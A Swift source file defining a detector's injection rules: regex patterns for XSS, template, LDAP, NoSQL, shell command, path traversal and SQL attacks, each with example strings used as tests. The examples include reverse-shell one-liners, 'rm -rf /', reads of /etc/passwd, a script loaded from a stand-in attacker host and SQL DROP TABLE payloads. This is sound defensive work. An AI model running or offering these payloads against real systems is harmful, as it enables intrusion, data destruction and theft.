extension Rule {
    /// What the detector knows, in the order in which it looks: each rule with its reason and with examples, which are
    /// tests. ``Rule/init(_:_:_:_:_:finds:passes:)`` says what stands where.
    static let all: [Rule] =
        [
            // MARK: Scripts and markup that a browser would act on
            // Elements that load or run something, however they are written.
            Rule(
                "scripting element", .xss, .bare, "<",
                #"""
                <\s?/?\s?(?:script|iframe|frameset|object|embed|applet|base|isindex|bgsound|i?layer|xss|xml|svg|math\#
                |marquee|meta|link|template|noscript|plaintext|xmp|listing|comment|frame|animate|portal|blink\#
                |keygen)\b
                """#,
                finds: ["<script>alert('xss')</script>", "<SCRIPT SRC=//evil.example/x.js>"],
                passes: ["the <b> element"]),
            // An attribute that begins with `on` runs its value.
            Rule(
                "handler in a tag", .xss, .bare, "< AND =",
                #"<[a-z!?/%][^<>]{0,300}?[\s/"'`;]on[a-z]{3,25}\s?="#,
                finds: ["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"]),
            // The same, where the text continues a tag that the page has opened.
            Rule(
                "handler in an attribute", .xss, .bare, "=",
                #"""
                (?:^|["'`\s/;>])on(?:error|load|click|focus|blur|mouse|key|toggle|begin|start|finish|pointer\#
                |animation|touch|transition|before|after|change|input|submit|select|resize|scroll|unload|drag|copy\#
                |cut|paste|wheel|page|hash|message|dblclick|context|ready|show|end|repeat)[a-z]{0,20}\s?=
                """#,
                finds: ["\" onmouseover=alert(1) x=\"", "onerror = alert(1)"], passes: ["window.onload = start;"]),
            // A URL whose scheme is a language runs when it is followed; browsers skip blanks within it.
            Rule(
                "script URL", .xss, .bare, ":",
                #"""
                (?:j\s?a\s?v\s?a|v\s?b|l\s?i\s?v\s?e)\s?s\s?c\s?r\s?i\s?p\s?t\s?:(?! ?[a-z]+ [a-z]+[ .,])\#
                |data:\s?(?:text/|image/svg|application/|[^,\s]{0,40};base64|,)
                """#,
                finds: ["javascript:alert(1)", "jav&#x09;ascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4="],
                passes: ["Here is the data: 1, 2"]),
            // The calls by which one proves that a script runs; not with a sentence as their argument.
            Rule(
                "call of a dialogue", .xss, .bare, "alert confirm prompt eval settimeout setinterval print AND ( `",
                #"""
                (?<![.\w])(?:alert|confirm|prompt|eval|settimeout|setinterval|print)(?:\.call\#
                |\.apply)?\s?\\?[(`](?!\s?["'](?!xss)[a-z ,!]{2})(?!\s?[$\w]{0,20}\);?$)\#
                |(?:alert|confirm|prompt)\((?:\d|xss|name|\))
                """#,
                finds: ["\\\";alert(1);//", "alert`1`"]),
            // A string or a bracket is closed, and a statement follows.
            Rule(
                "break-out into a script", .xss, .bare,
                """
                alert confirm prompt eval document window top parent location fetch new throw import settimeout \
                setinterval a $ [] AND ' \" ` ) ] } >
                """,
                #"""
                ['"`)\]}>] ?[;,)}+\-*/|&^\]]{1,6} ?(?:alert|confirm|prompt|eval|document|window|top|parent|location\#
                |fetch|new|throw|import|settimeout|setinterval|a=|\[\]|\$\.)\b
                """#,
                finds: ["';window.location='//evil.example'//", "\"-alert(1)-\""]),
            // What a script would reach for, and the spellings that hide a name.
            Rule(
                "insides of the page", .xss, .bare,
                """
                document string innerhtml window self top this parent alert constructor throw srcdoc formaction \
                xlink url http adw xi xmlns [] [! (!
                """,
                #"""
                document[\s)]?\s?[.\[]\s?["']?(?:cookie|write|domain|location|body|url|getelement)\#
                |string\.fromcharcode|\.innerhtml|(?:window|self|top|this|parent|document)\[\#
                |\[\]\[|\(!\[\]|\(!!\[\]|\$\{alert|alert\)\#
                |alert;|alert\\|throw\s?onerror|\+adw-|xi:include\#
                |xmlns:x|(?:self|window|top)\s?\[\s?["']|srcdoc\s?=\#
                |formaction\s?=|xlink:href|url\(\s?['"]?//\#
                |http-equiv
                """#,
                finds: ["window['al'+'ert'](1)", "document.write('<x>')"]),
            // Style that loads or runs.
            Rule(
                "active style sheet", .xss, .bare, "expression binding behavior behaviour import style",
                #"""
                expression\s?\(|-moz-binding|behaviou?r\s?:\s?url\#
                |@import\s?['"u]|<style|style\s?=\s?[^>]{0,80}url\(
                """#,
                finds: ["<div style=\"width: expression(alert(1))\">"]),
            // The text begins by closing what it does not open.
            Rule(
                "end of an attribute", .xss, .bare, "<",
                #"^[^<>]{0,40}['"\s]/?>\s?<[a-z/!?]|^[^<>]{0,30}</?(?:title|textarea|style|noscript)"#,
                finds: ["\"><b>x", "</title><h1>x"]),
            // Entities and processing instructions, and links that no page has.
            Rule(
                "odd markup", .xss, .bare, "<",
                #"""
                <!entity|<!doctype [^<>]{0,60}\[|<!attlist\#
                |<\?xml[^<>]{0,60}>\s?<!(?:doctype \w+ ?\[|entity|element)\#
                |<\?xml-s|<!\[cdata\[|<\?import|<![^<>]{0,10}<\#
                |<(?:a|img|image|body|input|form|button|div|video|audio|table|td|details|style|x|bgsound|br\#
                |isindex)\b[^<>]{0,120}(?:src|href|action|background|dynsrc|lowsrc|poster|data|srcset\#
                |onx)\s?=\s?(?:["'`]?\s?(?://|&\{|x\b|\w{1,12}:(?!//))|[a-z]*script|["']?\s?$)
                """#,
                finds: ["<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>"]),

            // MARK: Templates
            // Between double braces an engine evaluates; a plain variable is ordinary.
            Rule(
                "template expression", .template, .bare, "{{ {%",
                #"""
                \{\{(?=[^{}]{0,200}\}\}|[^{}]{0,40}$)(?!\s?(?!config|self|request|session|settings|app\b|constructor\#
                |_)[a-z]\w{0,40}(?:\.[a-z]\w{0,40}){0,6}\s?\}\})\#
                |\{%[^%]{0,200}%\}|\{\{=|\{\{[^{}]{0,20}[*'"]
                """#,
                finds: ["{{7*7}}", "{{ config }}", "{% debug %}"], passes: ["{{ user.name }} in Vue"]),
            // The other engines' brackets, around more than a name or a shell's own expansion.
            Rule(
                "evaluated expression", .template, .bare, "${ #{ *{ ~{ <% [[ [= @( @{ #s $",
                #"""
                [$#*~]\{(?!(?!ifs|document\.(?:domain|cookie)|class|self|request|session|param|application\#
                |t\()[#!]?[a-z_]\w{0,40}(?:\.[a-z]\w{0,40}\#
                |\[[^\]}]{0,40}\]){0,6}(?:(?!:\w{1,10}:) ?[%#/^,:@+=?-][^}(]{0,80})?\})[^{}]{1,200}\}\#
                |<%[=#-]?[^%<]{1,200}%>|\[\[\s?\$\{|\[=[\w'"]\#
                |__\$\{|@[({]\s?\d|#set\s?\(|\$\w+\.(?:class|inspect|getclass)
                """#,
                finds: ["${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://x}"], passes: ["echo ${HOME} and ${user.name}"]
            ),
            // The way from a value to the language that the engine is written in.
            Rule(
                "insides of an engine", .template, .bare,
                """
                __ getclass mro subclasses freemarker new php smarty tplcontext env attr constructor t
                """,
                #"""
                __(?:class|mro|subclasses|globals|builtins|init|import|base)__\#
                |\.getclass\(\)|\.(?:mro|subclasses)\(\)|freemarker\.template\#
                |\?new\(\)|\{php\}|\{\$smarty|self\._tplcontext\#
                |_self\.env|\|attr\(|constructor\.constructor\#
                |t\(java\.
                """#,
                finds: ["''.__class__.__mro__[2].__subclasses__()"]),

            // MARK: LDAP
            // A filter's bracket is closed early, or its operators stand alone.
            Rule(
                "filter taken apart", .ldap, .bare, ") ( * & | ! :",
                #"""
                \*\s?\)+\s?\(?\s?[&|!]|\*\)+\(\w{1,20}\s?[~<>]?=\#
                |\)\s?\([&|!]|^[^()\s]{0,30}\)\s?\(+\s?[&|!]?\(?\s?[\w-]{1,30}\s?[~<>]?=\#
                |\*\)\)|\(\s?[|&!]\s?\(\s?[\w-]{1,30}\s?[~<>]?=\s?\*\#
                |\(objectclass=|\((?:cn|uid|mail|sn|userpassword|samaccountname|password)=\*\#
                |^[*()|&!%=']{2,12}$|^[()*|&]$|^\W?\w{0,5}\*$\#
                |^[/@]{1,2}\*$|\)\(\w{1,20}=\*|\*\||:(?:\d+\.){3,9}\d+:?=\#
                |^\*\(\||^[*(|!&]+\w{2,20}=[^()]{0,20}\)*$
                """#,
                finds: ["*)(uid=*))(|(uid=*", ")(&", "*()|&'"], passes: ["f(a)(b)"]),

            // MARK: NoSQL
            // The operators themselves as keys, not $new, $next or $greeting.
            Rule(
                "operator of a document store", .nosql, .bare, "$",
                #"""
                [\[{,'"(.]\s?["']?\$(?:n?eq?|[gl]te?|n?in|where|regex|n?or|and|exists|not|func|expr|all|size|type\#
                |mod|elemmatch|comment)\b|\$(?:where|regex|gte?|ne|lte?)\b
                """#,
                finds: ["{\"$gt\": \"\"}", "user[$ne]=1", "$where: '1 == 1'"]),
            // A quote is closed and JavaScript's condition follows; the store's own methods.
            Rule(
                "condition of a document store", .nosql, .bare, "|| && db return this } while mapreduce date",
                #"""
                ^[^'"]{0,40}['"]\s?(?:\|\||&&)\s?['"\d(]?[^|&]{0,20}['"]?\s?={2,3}\#
                |db\.\w+\.(?:find|insert|drop|update|remove)\#
                |(?:^|['"\d])\s?\}?;\s?return\b|this\.\w+\.match\#
                |this\.\w{1,20}\s?[!=]=|\}\s?\]?,\s?\$|while\s?\(\s?(?:true|1)\s?\)\#
                |new date\(?\)?.{0,80}while\s?\(|mapreduce
                """#,
                finds: ["' || '1'=='1", "'; return true; var x='"]),

            // MARK: Commands
            // A separator or a substitution, then a known command; text filters behind a pipe are ordinary. Commands
            // that are English words need an argument that is none.
            Rule(
                "joined command", .command, .bare, "; & ` | $( <( >( %0 \\n \n",
                #"""
                (?:[;&`]|\|\||\$\(|[<>]\(|%0a|(?:^|[\d"')])\\n)[\s+]{0,2}[("'\\{@]?\#(command)\#
                |(?:(?<![a-z\]])\||\|(?=\s)|^\S{0,40}\|)[\s+]{0,2}[("'\\{@]?(?!cat\s?$|(?:tee|less|more|head|tail\#
                |sort|uniq|wc|sed|awk|grep|cut|rev|tac|diff|xxd|od|nl|strings|tar|gzip)\b)\#(command)\#
                |^(?:;|(?:&|&&|\|\|?)\s?)[a-z][\w./-]{1,20}(?:\s(?![^\n]{0,80}\|)|;)\#
                |^\n[a-z]{2,8}\s?[/-]|^\#(command)\s?[;&|]
                """#,
                finds: ["; rm -rf /", "$(whoami)", "x | whoami", "127.0.0.1 && cat /x", "`id`"],
                passes: ["ls | wc", "The cat; the dog"]),
            // Interpreters that get a command, and programs on files and hosts that attacks are about.
            Rule(
                "command with a target", .command, .bare,
                """
                sh bash bin dev nc netcat cmd powershell ping cat more less head tail type nl vi rm net echo \
                wget curl <!
                """,
                #"""
                \b(?:ba|da|z|k|c)?sh -[ci]\b|(?<=[^:])/bin/\w{0,2}sh\#
                |/bin/(?:cat|ls|id|nc|ping|echo|uname|ps|rm)\#
                |/dev/(?:tcp|udp)/|\bn(?:et)?c(?:at)? -\w{1,5} \#
                |cmd(?:\.exe)?\s?[/,;+]c|powershell|\bping -[nciw] ?\d\#
                |(?:cat|more|less|head|tail|type|nl|vi) ?[<"'/\\]{0,3}(?:/etc|c:|\$home|boot)\#
                |rm -[rf]{1,3} |net (?:user|localgroup|view|share)\#
                |echo [^|]{0,40}> |\bnet1? user|wget https?:\#
                |curl https?:|<!--#
                """#,
                finds: ["x /bin/cat /y"]),
            // A shell that is wired to a network.
            Rule(
                "remote shell", .command, .code, "bash sh nc ncat netcat dev bin",
                #"""
                \bbash -i\s?\d?>&|>&?\s?/dev/tcp/\d|\bn(?:et)?c(?:at)? -\w{0,5}e\w{0,2} \#
                |\bsh -i\s?2?>&|-e /bin/\w{0,2}sh\b
                """#,
                finds: ["bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "nc -e /bin/sh 10.0.0.1 99"]),
            // Quotes, variables and globs inside a command's name, for no other purpose than to hide it.
            Rule(
                "hidden command", .command, .bare, "$ { ' \" \\ ? [ ( ; < >",
                #"""
                \$\{?ifs|\{[a-z]{2,8},[^}]{1,40}\}|(?:^|[;|&`(])\s?[a-z]{1,5}(?:''|""|\\|\$[@*\d]\#
                |\$\{?[a-z]?\})[a-z]{1,8}|/\?{2,3}/|/[a-z?]{1,3}\?[a-z?]{0,3}/\#
                |(?:^|[;|&\s])(['"])[a-z]{1,4}\1[a-z]{1,8}\#
                |/\w{0,4}\[[!a-z/\]-]{1,14}\]\w{0,8}(?:/|$)\#
                |/(?:etc|usr|bin)/\w{0,6}[\[*?]|(?:^|["':=] ?)\(\)\s?\{\s?(?:[:_]|$)\#
                |;\s?\}\s?;|\$\(\(|<<<|>\s?/(?:tmp|var|dev)/
                """#,
                finds: ["cat${IFS}/etc/passwd", "() { :;}; id", "w''hoami"]),
            // Calls of other languages that run a command.
            Rule(
                "call of a command", .command, .bare,
                """
                ( <? java getruntime processbuilder ognl memberaccess class import child subprocess os \
                xmldecoder rundll require
                """,
                #"""
                (?<![.\w>])(?:system|exec|passthru|shell_exec|popen|proc_open|assert|phpinfo|pcntl_exec|eval\#
                |create_function|call_user_func|base64_decode|file_get_contents|preg_replace|include|require|die\#
                |execfile|spawn)\s?\(|java\.lang|getruntime\#
                |processbuilder|#_memberaccess|ognl|class\.forname\#
                |__import__|child_process|subprocess|os\.(?:system|popen)\#
                |<\?php|<\?=|xmldecoder|rundll32|require\(['"]child
                """#,
                finds: ["system('id')", "<?php phpinfo(); ?>"]),

            // MARK: Paths
            // Several steps up, in any spelling, or one to a file of the system.
            Rule(
                "steps up", .path, .bare, ".. %c %b 0x ?. .? ?? etc boot win",
                #"""
                (?:\.{2,4}[\\/]{1,4}|\.{2}(?:0x2f|0x5c|%\w\w|;/|[^\w\s.]{1,4})(?=\.)){2,}\#
                |(?:^|[=/:?&%;|\\"'\s(])\.{2,4}[\\/]{1,4}(?:\S{0,60}?\#(systemFile)|\.)\#
                |\.\.\\|\.\.//|(?:^|[=/?&%;\\])\.{2}/(?=[^/\s]{0,40}$)\#
                |\.\./[^\s'"]{0,40}(?:passwd|shadow|/etc)\#
                |%c[01]%?\w\w|%bg%qf|^[^\sa-z][^\s]{0,500}?(?:etc\S{1,24}(?:passwd|issue|hosts|shadow|group)\#
                |windows\S{1,60}hosts|boot\.ini|win\.ini|\{file\})\#
                |0x2e0x2e|\.\.0x|\.\.%\w|\.\.2f|\.\.5c
                """#,
                finds: ["..%2f..%2fetc/passwd", "../../../etc/passwd", "..\\..\\windows", "%252e%252e%252f"],
                passes: ["import x from '../lib/x'", "cd ../src"]),
            // A file of the system by its full name, and wrappers that read one.
            Rule(
                "system file", .path, .bare, "/ \\",
                #"""
                (?:^|[=:\s<'"(|;,\\/])(?:[a-z]:)?[\\/]{1,3}(?:[\w.]{1,12}[\\/]){0,2}\#(systemFile)\#
                |(?:php|expect|phar|zip|data|glob|gopher|dict|ogg|ssh2|rar|jar|netdoc|compress\.zlib|compress\.bzip2\#
                |input)://|file:/{1,3}(?:etc|proc|var|dev|home|root|[a-z]:)\#
                |^file:/|/etc/passwd|^/\S{1,100}(?:\.(?:conf|ini|log|pdb|cnf|cfg|htpasswd|passwd|db)|log|passwd\#
                |shadow|[wu]tmpx?)(?:\.\w+)?$|^\S{0,40}\.(?:ht)?passwd$\#
                |^etc/(?:passwd|shadow|group)|[a-z]:[\\/]+(?:boot|win|inetpub|autoexec|sys)
                """#,
                finds: ["/etc/passwd", "php://filter/convert.base64-encode/resource=x", "c:\\boot.ini"]),

            // MARK: SQL
            // The first quote of the text is a closing one: an operator follows it.
            Rule(
                "condition after a quote", .sql, .bare, "' \" `",
                #"""
                ^[^'"`]{0,80}['"`](?:\)+\s?|\s)(?:(?:or|and|xor|having|where|rlike|regexp|div|mod|not|like|in\#
                |between|is|as|order|group|limit|union|procedure|into)\b|\|\||&&)[\s(+\-!~]{0,6}['"`@\w(\\]\#
                |^[^'"`]{0,80}['"`](?:or|and|xor|having|\|\||&&)\s?['"`(+~!-]\#
                |['"]\s?(?:not )?(?:regexp|r?like|glob)\s?['"(]\#
                |['"]\s?::\s?(?:json|int|text|varchar|numeric)
                """#,
                finds: ["' OR 1=1 --", "admin' or '1'='1' --", "') or ('a'='a"], passes: ["Answer 'yes' or 'no'."]),
            // An operator and a comparison, with no statement before them.
            Rule(
                "condition that always holds", .sql, .bare, "or and xor having where not || && = like is <=",
                #"""
                \b(?:or|and|xor|having|where|not)[\s(!~\-+]{1,8}\#(operand)\)*\s?\#(compared)\#
                |(?:\|\||&&)[\s(!~\-+]{0,8}(?:\d+|['"][^'"]{0,40}['"])\)*\s?(?:[=<>]|r?like)\#
                |\b(?:or|and) (?:true\b|false\b|\d+\s?(?:--|[#);]|/\*))\#
                |['"\d] ?(?:\|\||&&) ?(?:\d+|true|not)\s?$\#
                |^\W{0,3}(?:\d+|'\w*')\s?(?:=|<=>|like|is not)\s?(?:\d+|'\w*'?)$
                """#,
                finds: ["1 or 1=1", "1 and 1=2"], passes: ["What does the 'or' operator do? And 'and', 'or', 'not'?"]),
            // Another query is joined to one that is not there.
            Rule(
                "joined query", .sql, .bare, "union intersect except minus AND select values table",
                #"""
                (?:\b|\d)(?:union|intersect|except|minus)\b[\s(\W]{1,40}(?:(?:all|distinct\#
                |distinctrow)\b[\s(]{0,4})?\W{0,4}(?:select|values|table)\b
                """#,
                finds: ["1 UNION ALL SELECT", "1 UNION SELECT password", "1 un/**/ion/**/select 1 union/**/select 2"],
                passes: ["the UNION selected a few friends"]),
            // What stands behind the input is commented out.
            Rule(
                "comment after a quote", .sql, .bare, "-- # /*",
                #"""
                ^[^'"`]{0,80}['"`]\)*\s?;?\s?(?:--|#|/\*)\#
                |[\d'`]\)*\s?;?(?:--[\s-]{0,3}|#|/\*)$|;\s?--$\#
                |['"\d)\w] ?--\s?[+-]$
                """#,
                finds: ["admin' --", "1'#"]),
            // A statement is ended and another one begins.
            Rule(
                "second statement", .sql, .bare,
                """
                ; AND drop delete insert update exec execute declare shutdown waitfor truncate alter create \
                grant revoke select begin backup bulk copy call handler merge replace load
                """,
                #"""
                (?:^|['"\d\w)\s]);+\s?\(?\s?(?:drop|delete|insert|update|exec|execute|declare|shutdown|waitfor\#
                |truncate|alter|create|grant|revoke|select|begin|backup|bulk|copy|call|handler|merge|replace|load)\b
                """#,
                finds: ["'; DROP TABLE users; --", "1;exec master..xp_cmdshell 'dir'"]),
            // A blind attack asks by how long the answer takes.
            Rule(
                "delay", .sql, .bare, "sleep benchmark pg dbms randomblob generate waitfor",
                #"""
                (?<![.\w])(?:sleep|benchmark|pg_sleep|dbms_lock\.sleep|dbms_pipe\.receive_message|randomblob\#
                |generate_series)\s?\(|waitfor\s?(?:delay|time)\b
                """#,
                finds: ["1 and sleep(5)", "'; WAITFOR DELAY '0:0:5'--"]),
            // Catalogues, files, versions and the functions that blind attacks are made of.
            Rule(
                "insides of a database", .sql, .bare,
                """
                schema sysobjects syscolumns sysdatabases sysusers syslogins sysprocesses sysibm sys xp sp utl \
                dbms load extractvalue updatexml into pg all user dba sqlite mysql procedure master v char chr \
                concat x openrowset exec execute declare bulk identified cast sub substr substring mid ascii \
                unhex from case group rownum current session syscat @@
                """,
                #"""
                information_schema|\bsys(?:objects|columns|databases|users|logins|processes|ibm)\b\#
                |\bxp_\w|\bsp_\w+|\butl_\w|\bdbms_\w|\bload_file\s?\(\#
                |extractvalue\s?\(|updatexml\s?\(|into\s?(?:out|dump)file\#
                |@@\w|\bpg_(?:user|shadow|database|class|catalog|sleep|read|ls|tables|stat|group|auth|proc|cancel)\#
                |\ball_(?:tables|users)|\b(?:user|dba)_(?:tables|users|role_privs|tab)\#
                |sqlite_\w|mysql\.\w|\bsys\.(?:user|tab|database|all|object|schema|sql|col|login|server|dm)\#
                |procedure analyse|master\.\.|v\$\w|\bcha?r\s?\(\s?\d\#
                |concat(?:_ws)?\s?\(|\b0x[0-9a-f]{6,}|openrowset\#
                |exec(?:ute)?\s?(?:master|sp_|xp_|immediate|\()\#
                |declare\s?@|bulk insert|identified by|\bcast\s?\(\#
                |\bsub(?:str|string)?\s?\(|\bmid\s?\(|\bascii\s?\(\#
                |\bunhex\s?\(|from dual|case when|group_concat\#
                |rownum|\bcurrent_user\b|\bsession_user\b\#
                |syscat\.
                """#,
                finds: ["1 and extractvalue(1,concat(0x7e,version()))"]),
            // Finds out how many columns there are.
            Rule(
                "clause after a value", .sql, .bare, "by limit having",
                #"""
                (?:^|['"\d)`\w%])\s?(?:order|group) by [\w(]\#
                |\blimit \d+\s?[,;]|having \d+\s?=
                """#,
                finds: ["1' order by 10--"]),
            // A subquery, with no statement around it.
            Rule(
                "query within a value", .sql, .bare, "select if exists AND ( = , + | *  ",
                #"""
                \(\s?select\b|[=,+|*]\s?select\b|\bselect\s.{1,60}\sfrom\s\#
                |\bif\s?\(\s?\d|\bexists\s?\(
                """#,
                finds: ["1 and (select count(*) from users) > 0"]),
            // Quotes that only make sense inside the quotes of a statement.
            Rule(
                "quotes around an operator", .sql, .bare, "' \" `",
                #"""
                ^['`][\s\-&^*+|=<>%]{1,6}['"`]|(?:^'|\w['"])\s?(?:\|\||\+|-|\^|\*|&|=|<=>|!=\#
                |<>)\s?['"]\w{0,20}['"]?$|'=0|\w'\s?=\s?'\#
                |^[^'"\s]{1,40}'\)*;\s?$|['"]{2}\s?=|^'\)*;?\s?$\#
                |^['"`]\)+|^\W{0,3}['"]\s?(?:=|<|>)\s?\d
                """#,
                finds: ["'-'", "' or ''='", "'='"]),
        ] + promptInjection
}
